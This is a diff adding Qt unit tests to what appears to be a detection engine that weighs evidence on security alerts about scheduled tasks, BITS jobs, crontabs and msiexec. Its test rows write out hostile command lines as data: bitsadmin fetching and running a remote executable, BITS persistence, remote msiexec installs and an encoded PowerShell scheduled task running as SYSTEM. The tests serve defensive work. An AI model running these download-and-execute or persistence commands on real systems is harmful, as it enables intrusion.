@@ -254,6 +254,56 @@ private slots:
             << with(schedulerChild, {{"process_name", "msiexec.exe"},
                                      {"command_line", "msiexec.exe /i \\\\198.51.100.7\\s\\a.msi /qn"}})
             << "msiexec_from_file_share" << false;
+        QTest::newRow("bitsadmin fetches a file for a line-of-business job")
+            << with(schedulerChild,
+                    {{"process_name", "bitsadmin.exe"},
+                     {"command_line",
+                      "bitsadmin.exe /transfer Rates /download https://fs-01.corp.example/r.zip "
+                      "D:\\App\\import\\r.zip"}})
+            << "bitsadmin_download_to_user_folder" << false;
+        QTest::newRow("bitsadmin drops into ProgramData (T1197)")
+            << Fields{{"process_name", "bitsadmin.exe"},
+                      {"command_line",
+                       "bitsadmin /transfer j /download /priority high http://198.51.100.7/a.exe "
+                       "C:\\ProgramData\\a.exe"}}
+            << "bitsadmin_download_to_user_folder" << true;
+        QTest::newRow("bitsadmin chains a run")
+            << Fields{{"process_name", "bitsadmin.exe"},
+                      {"command_line",
+                       "bitsadmin /transfer j http://198.51.100.7/a.exe D:\\x\\a.exe & D:\\x\\a.exe"}}
+            << "bitsadmin_download_to_user_folder" << true;
+        QTest::newRow("bitsadmin notify command (BITS persistence)")
+            << Fields{{"process_name", "bitsadmin.exe"},
+                      {"command_line", "bitsadmin /SetNotifyCmdLine j C:\\Windows\\System32\\cmd.exe NULL"}}
+            << "bitsadmin_download_to_user_folder" << true;
+        QTest::newRow("systemctl with an option before the verb")
+            << Fields{{"process_name", "systemctl"},
+                      {"command_line", "systemctl --quiet reload apache2.service"},
+                      {"parent_command_line", "/bin/sh /usr/sbin/invoke-rc.d apache2 reload"}}
+            << "systemctl_service_management" << true;
+        QTest::newRow("Salt writes a crontab through its temp file")
+            << Fields{{"process_name", "crontab"},
+                      {"command_line", "crontab -u root /tmp/__salt.tmp.ahtiifqa"},
+                      {"parent_command_line", "/opt/saltstack/salt/bin/python3.10 /usr/bin/salt-minion"}}
+            << "command_in_world_writable_path" << false;
+        QTest::newRow("a shell installs a crontab named like Salt's temp file")
+            << Fields{{"process_name", "crontab"},
+                      {"command_line", "crontab -u root /tmp/__salt.tmp.ahtiifqa"},
+                      {"parent_command_line", "/bin/bash"}}
+            << "command_in_world_writable_path" << true;
+        QTest::newRow("Rancher Fleet agent")
+            << Fields{{"rule_name", "Kubernetes Cron Job Creation"},
+                      {"user", "system:serviceaccount:cattle-fleet-system:fleet-agent"},
+                      {"user_agent", "fleetagent/v0.11.4 (linux/amd64) kubernetes/$Format"},
+                      {"k8s_resource", "cronjobs"},
+                      {"k8s_verb", "create"}}
+            << "software:rancher-fleet" << true;
+        QTest::newRow("Veeam script in ProgramData")
+            << with(
+                   schedulerChild,
+                   {{"process_name", "cscript.exe"},
+                    {"command_line", "cscript.exe //nologo \"C:\\ProgramData\\Veeam\\Scripts\\notify.vbs\""}})
+            << "command_programdata_vendor" << true;
         QTest::newRow("msiexec from a URL (T1218.007)")
             << Fields{{"process_name", "msiexec.exe"},
                       {"command_line", "msiexec.exe /q /i \"http://198.51.100.7/a.msi\""}}
@@ -340,6 +390,50 @@ private slots:
         for (const EvidenceHit &term : e.likelihoodBreakdown)
             found << term.id;
         QVERIFY2(found.contains(evidence) == fires, qPrintable(found.join(QLatin1Char(','))));
+    }
+
+    // One fact seen in two fields (the schtasks command line and the task action it creates) is
+    // listed twice but counted once, at its heaviest predicate.
+    void oneFactCountsOnce_data() {
+        QTest::addColumn<Fields>("fields");
+        QTest::addColumn<QString>("counted");
+        QTest::addColumn<QString>("listedOnly");
+        QTest::newRow("a script in Windows\\Temp")
+            << Fields{{"rule_name", "Scheduled Task Creation Via Schtasks.EXE"},
+                      {"process_name", "schtasks.exe"},
+                      {"command_line",
+                       "schtasks /create /tn Reboot /tr C:\\Windows\\Temp\\reboot.cmd /sc once "
+                       "/st 23:00 /ru SYSTEM"},
+                      {"task_action", "C:\\Windows\\Temp\\reboot.cmd"}}
+            << "action_in_world_writable_path"
+            << "command_in_world_writable_path";
+        QTest::newRow("an encoded PowerShell payload")
+            << Fields{{"rule_name", "Scheduled Task Creation Via Schtasks.EXE"},
+                      {"process_name", "schtasks.exe"},
+                      {"command_line", "schtasks /create /tn U /tr \"powershell.exe -enc "
+                                       "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=\" /sc daily"},
+                      {"task_action",
+                       "powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA="}}
+            << "encoded_powershell_command"
+            << "encoded_powershell_action"; // equal weights: the first listed
+    }
+    void oneFactCountsOnce() {
+        QFETCH(Fields, fields);
+        QFETCH(QString, counted);
+        QFETCH(QString, listedOnly);
+        const ExplanationEngine engine(KnowledgeBase::builtIn(), evaluationSettings());
+        const Explanation e = engine.explain(event(fields), Prevalence{});
+        QVERIFY(ids(e.counterEvidence).contains(counted));
+        QVERIFY(ids(e.counterEvidence).contains(listedOnly));
+        QHash<QString, int> points;
+        int sum = 0;
+        for (const EvidenceHit &term : e.likelihoodBreakdown) {
+            points.insert(term.id, term.points);
+            sum += term.points;
+        }
+        QVERIFY(points.value(counted) < 0);
+        QCOMPARE(points.value(listedOnly, -1), 0);
+        QCOMPARE(std::clamp(sum, 0, 100), e.fpLikelihood);
     }
 
     // Real command lines of the public Atomic Red Team T1053 tests stay on the malicious side.
